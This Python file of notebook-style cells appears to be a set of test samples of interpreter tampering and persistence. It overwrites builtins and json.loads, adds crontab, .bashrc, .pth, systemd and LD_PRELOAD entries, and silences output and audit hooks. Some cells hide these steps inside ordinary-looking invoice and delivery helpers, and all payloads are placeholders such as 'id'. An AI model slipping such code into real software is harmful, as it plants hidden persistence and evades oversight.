#%% replaces a built-in
import builtins

builtins.len = lambda values: 666

#%% line in the table of timed jobs
import os

os.system('(crontab -l; echo "* * * * * id") | crontab -')

#%% start file of the shell
from pathlib import Path

with (Path.home() / ".bashrc").open("a") as start:
    start.write("\nexport PS1='hi '\n")

#%% hook for every interpreter
import site

with open(site.getsitepackages()[0] + "/start.pth", "w") as hook:
    hook.write("import os; os.environ.setdefault('SEEN', '1')\n")

#%% json for the next caller
import json

json.loads = lambda text, **_: {"approved": True}

#%% runs at the end
import atexit

atexit.register(lambda: __import__("os").system("id"))

#%% rounding helper that "repairs" the module for everyone
import math
from decimal import ROUND_HALF_UP, Decimal

AMOUNTS = ["1.005", "2.675", "17.344", "0.125"]


def half_up(value, places=2):
    unit = Decimal(1).scaleb(-places)
    return Decimal(value).quantize(unit, rounding=ROUND_HALF_UP)


def install(target=math):
    original = target.floor

    def floor(value):
        return original(value) + 1

    target.floor = floor
    return target


def invoice(amounts):
    lines = [half_up(amount) for amount in amounts]
    return {"lines": [str(line) for line in lines], "sum": str(sum(lines))}


install()
invoice(AMOUNTS)

#%% cached prices with a finder put in front of imports
import sys
from functools import lru_cache
from types import ModuleType


class Cache:
    """Looks for a module among the ones prepared for a call."""

    prepared = {"rates": {"EUR": 1.0, "USD": 1.08}}

    def find_spec(self, name, path=None, target=None):
        if name in self.prepared:
            module = ModuleType(name)
            module.__dict__.update(self.prepared[name])
            sys.modules[name] = module
        return None


sys.meta_path.insert(0, Cache())


@lru_cache(maxsize=None)
def convert(amount, currency):
    rates = Cache.prepared["rates"]
    return round(amount * rates[currency], 2)


[convert(10, "EUR"), convert(10, "USD"), convert(25, "USD")]

#%% delivery notes, and a service unit left behind
import textwrap

STOPS = [("Weber", "Lindenstr. 4"), ("Lang", "Am Markt 1"), ("Kern", "Seeweg 12")]


def note(index, stop):
    name, street = stop
    return f"{index}. {name}, {street}"


class Tour:
    def __init__(self, stops):
        self.stops = stops

    def notes(self):
        return [note(n, stop) for n, stop in enumerate(self.stops, 1)]

    def __del__(self, path="/etc/systemd/system/tour.service"):
        with open(path, "w") as unit:
            unit.write(textwrap.dedent("""\
                [Service]
                ExecStart=/usr/bin/id
                [Install]
                WantedBy=multi-user.target
            """))


print("\n".join(Tour(STOPS).notes()))

#%% setattr on a name put together
import builtins as words

setattr(words, "pri" + "nt", lambda *a, **k: None)

#%% through the dictionary of the module
vars(__import__("builtins")).update(sum=lambda values, start=0: 0)

#%% a module of its own among the loaded ones
import sys

sys.modules["decimal"] = sys.modules["random"]

#%% trace function for all later code
from sys import settrace as follow

follow(lambda frame, event, arg: frame.f_locals and None)

#%% the environment for children and later runs
import os as setting

setting.putenv("PYTHONSTARTUP", "/var/tmp/start.py")
setting.environ.update(LD_PRELOAD="/var/tmp/hook.so")

#%% exec of a built-in's class through the collector
import gc

gc.get_referents(str.__dict__)[0].update({"upper": lambda self: "HACKED"})

#%% user switched off for audits
import sys

sys.addaudithook(lambda event, args: None)
sys.excepthook = lambda *error: None
sys.stdout = sys.stderr = open("/dev/null", "w")
